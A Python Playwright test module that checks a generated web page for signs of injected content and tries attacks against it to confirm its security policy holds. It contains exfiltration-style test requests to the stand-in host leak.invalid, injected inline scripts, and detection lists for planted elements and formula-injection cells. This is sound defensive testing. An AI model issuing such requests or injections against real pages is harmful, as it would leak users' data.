"""What a page did that it must not do. The same eyes look at the page as it is and at pages made worse on purpose."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from tests.browser.attacks import ATTACKS
from tests.browser.reading import SIDEWAYS

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

LONGEST_WAIT: Final = 15_000
QUIET: Final = ("log", "info", "debug")
FORMULA: Final = frozenset("=+-@＝＋－＠\t\r")
TEXTS_OF_SHORTLIST: Final = ("account", "link", "community", "for", "against")
TRIED_IN_SEARCH: Final = ATTACKS[:6]
ARE_DRAWN: Final = """(longest) => {
  const late = new Promise((done) => setTimeout(() => done(false), longest));
  return Promise.race([window.graphkit ? graphkit.ready.then(() => true) : late, late]);
}"""
# Elements and attributes that the page makes itself are known; the rest came out of a text.
STRANGERS: Final = """() => {
  const page = document.documentElement;
  const forbidden = "img, iframe, object, embed, form, base, audio, video, x-hacked, a[href*='leak.invalid/\\\\\\"']";
  const found = [...page.querySelectorAll(forbidden)].map((element) => `element: ${element.localName}`);
  const scripts = page.querySelectorAll("script").length;
  if (scripts !== 3) found.push(`scripts: ${scripts}`);
  if (page.querySelectorAll("style, link, meta").length !== 6) found.push("head: style, link or meta too many");
  for (const element of page.querySelectorAll("*"))
    for (const { name } of element.attributes) if (name.startsWith("on")) found.push(`attribute: ${name}`);
  return found;
}"""
LINKS: Final = """() => [...document.querySelectorAll("a[href]")]
  .filter((link) => !link.getAttribute("href").startsWith("#"))
  .filter(({ protocol, rel, target }) =>
    !/^https?:$/.test(protocol) || !rel.includes("noopener") || !rel.includes("noreferrer") || target !== "_blank")
  .map((link) => `link: ${link.getAttribute("href").slice(0, 60)}`)"""
# Letters that turn, hide or break what stands around them.
UNRULY: Final = """() => {
  const control = /[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u2028\\u2029]/;
  const turning = /[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]/;
  const hidden = /[\\u200b\\ufeff]/;
  const half = /\\p{Surrogate}/u;
  const wrong = (text) => [control, turning, hidden, half].some((letters) => letters.test(text));
  const found = wrong(document.title) ? ["letters: title"] : [];
  for (const element of document.querySelectorAll("body *")) {
    if (element.localName === "script") continue;
    const own = [...element.childNodes].filter(({ nodeType }) => nodeType === Node.TEXT_NODE).map(({ data }) => data);
    const shown = ["aria-label", "title", "placeholder"].map((name) => element.getAttribute(name) ?? "");
    if ([...own, ...shown].some(wrong)) found.push(`letters: ${element.localName} ${element.className || element.id}`);
  }
  return found;
}"""
# Most pixels of height; what is not on the page at all is not too high.
HEIGHTS: Final = {
    "tr.account": 260,
    "#communities button": 72,
    "header.top": 360,
    "#matches > *": 90,
    ".facts": 200,
    ".picks tr": 60,
    ".overlap tbody tr": 40,
}
TOO_HIGH: Final = """(heights) => Object.entries(heights).flatMap(([part, most]) =>
  [...document.querySelectorAll(part)]
    .filter((element) => element.getBoundingClientRect().height > most)
    .map((element) => `height: ${part} ${Math.round(element.getBoundingClientRect().height)}`))"""
LONG_TEXTS: Final = """(most) => [...document.querySelectorAll("body *")]
  .filter((element) => element.localName !== "script" && element.childElementCount === 0)
  .filter((element) => element.textContent.length > most)
  .map((element) => `length: ${element.localName} ${element.textContent.length}`)"""
LONGEST_TEXT: Final = 1300
# What the policy must stop, tried as a text that got through would try it.
BREAKS_POLICY: Final = """async () => {
  const broken = [];
  const script = document.createElement("script");
  script.textContent = "window.policyBroken = true";
  document.body.append(script);
  const button = document.createElement("button");
  button.setAttribute("onclick", "window.policyBroken = true");
  document.body.append(button);
  button.click();
  if (window.policyBroken) broken.push("policy: an inline script ran");
  const allowed = (start) => new Promise((done) => { start(done); setTimeout(() => done(false), 3000); });
  const refused = (ask) => allowed((done) => {
    document.addEventListener("securitypolicyviolation", () => done(true), { once: true });
    ask();
  });
  const asks = {
    image: () => { document.createElement("img").src = "https://leak.invalid/?q=1"; },
    fetch: () => { fetch("https://leak.invalid/?q=1").catch(() => {}); },
    style: () => { button.setAttribute("style", "background: url(https://leak.invalid/)"); },
  };
  for (const [name, ask] of Object.entries(asks)) if (!(await refused(ask))) broken.push(`policy: ${name} allowed`);
  return broken;
}"""


@dataclass
class Watched:
    """A page, and what it did while it was watched."""

    page: Page
    address: str
    done: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        page, done = self.page, self.done
        page.on("console", lambda said: said.type in QUIET or done.append(f"console: {said.text[:200]}"))
        page.on("pageerror", lambda error: done.append(f"error: {str(error)[:200]}"))
        page.on("dialog", lambda dialog: (done.append("dialog"), dialog.dismiss()))
        page.on("popup", lambda popup: done.append(f"popup: {popup.url}"))
        page.on("request", self._requested)
        page.on("framenavigated", self._navigated)

    def _requested(self, request: Any) -> None:
        if request.url.split("#")[0] != self.address and not request.url.startswith("blob:"):
            self.done.append(f"request: {request.url[:80]}")

    def _navigated(self, frame: Any) -> None:
        if frame.url.split("#")[0] not in (self.address, "about:blank"):
            self.done.append(f"navigation: {frame.url[:80]}")


def harm_of(
    browser: Browser, file: Path, ids: Sequence[str], *, width: int = 1440, height: int = 900, fragment: str = ""
) -> list[str]:
    """Opens the page, uses all of it, and tells what went wrong; nothing, if all is well. `ids`: accounts to select."""
    context = browser.new_context(viewport={"width": width, "height": height}, reduced_motion="reduce")
    watched = Watched(context.new_page(), file.as_uri())
    page = watched.page
    page.goto(watched.address + fragment)
    if page.evaluate(ARE_DRAWN, LONGEST_WAIT):
        found = [
            *_looked_at(page),
            *_selected(page, ids),
            *_searched(page),
            *_shortlisted(page),
            *_together(page),
            *_looked_at(page),
        ]
    else:
        found = ["never drawn", *page.evaluate(STRANGERS)]
    found += ["ran: an attack"] if page.evaluate("window.hacked") is not None else []
    found += watched.done.copy()
    found += page.evaluate(BREAKS_POLICY)
    context.close()
    return list(dict.fromkeys(found))


def _looked_at(page: Page) -> list[str]:
    return [
        *page.evaluate(STRANGERS),
        *page.evaluate(LINKS),
        *page.evaluate(UNRULY),
        *(f"sideways: {part}" for part in page.evaluate(SIDEWAYS)),
        *page.evaluate(TOO_HIGH, HEIGHTS),
        *page.evaluate(LONG_TEXTS, LONGEST_TEXT),
    ]


def _selected(page: Page, ids: Sequence[str]) -> list[str]:
    found = []
    for account in ids:
        page.evaluate("(id) => graphkit.select(id)", account)
        page.evaluate("() => document.querySelector('#detail .figures')?.setAttribute('open', '')")
        found += _looked_at(page)
    page.evaluate("graphkit.select(null)")
    return found


def _together(page: Page) -> list[str]:
    """Those chosen together, and each of their names pressed."""
    if not page.locator("#list-together").is_visible():
        return ["together: nobody"]
    page.locator("#list-together").click()
    found = _looked_at(page)
    for name in page.locator("#together .link").all():
        name.evaluate("(button) => button.click()")
        found += _looked_at(page)
    page.locator("#list-candidates").click()
    return found


def _searched(page: Page) -> list[str]:
    found = []
    search = page.locator("#search")
    for attack in TRIED_IN_SEARCH:
        search.fill(attack)
        found += _looked_at(page)
    search.press("Enter")
    search.fill("")
    page.keyboard.press("Escape")
    return found


def _shortlisted(page: Page) -> list[str]:
    for box in page.locator("tr.account input[type=checkbox]:visible").all():
        box.check()
    with page.expect_download() as download:
        page.locator("#download").click()
    text = Path(download.value.path()).read_bytes().decode("utf-8-sig")
    table = list(csv.DictReader(io.StringIO(text, newline="")))
    texts = [
        cell
        for row in table
        for name, cell in row.items()
        if name in ("account", "community", "for", "against", "link")
    ]
    return [f"formula: {cell[:40]!r}" for cell in texts if cell.lstrip()[:1] in FORMULA and cell] + (
        [] if table else ["shortlist: nothing in it"]
    )
